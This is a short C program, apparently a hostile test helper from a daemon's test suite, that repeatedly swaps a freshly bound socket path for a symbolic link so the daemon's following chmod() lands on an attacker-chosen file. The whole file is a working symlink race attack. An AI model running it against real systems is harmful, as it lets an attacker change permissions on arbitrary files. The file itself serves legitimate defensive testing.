/* link.c - replaces a socket by a symbolic link as soon as it is bound
 *
 * usage: link SOCKET FILE
 */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include "tests/lib/hostile.h"

#define SPELL_MS 200 /* time in which the daemon may use the path after bind() */

int main(int argc, char **argv)
{
	char spare[4096];
	long long replaced = 0;

	if (argc < 3)
		return 2;
	snprintf(spare, sizeof(spare), "%s.link", argv[1]);
	if (symlink(argv[2], spare) < 0)
		attack_fail("symlink");
	attack_under_way();
	while (!attack_over()) {
		/* One system call per turn: chmod() follows some microseconds after bind(). */
		for (int i = 0; i < 10000; i++) {
			if (renameat2(AT_FDCWD, spare, AT_FDCWD, argv[1], RENAME_EXCHANGE) < 0)
				continue;
			replaced++;
			attack_wait(SPELL_MS);
			unlink(argv[1]);
			unlink(spare);
			if (symlink(argv[2], spare) < 0)
				attack_fail("symlink");
		}
	}
	attack_result("replaced", replaced);
	unlink(spare);
	return 0;
}
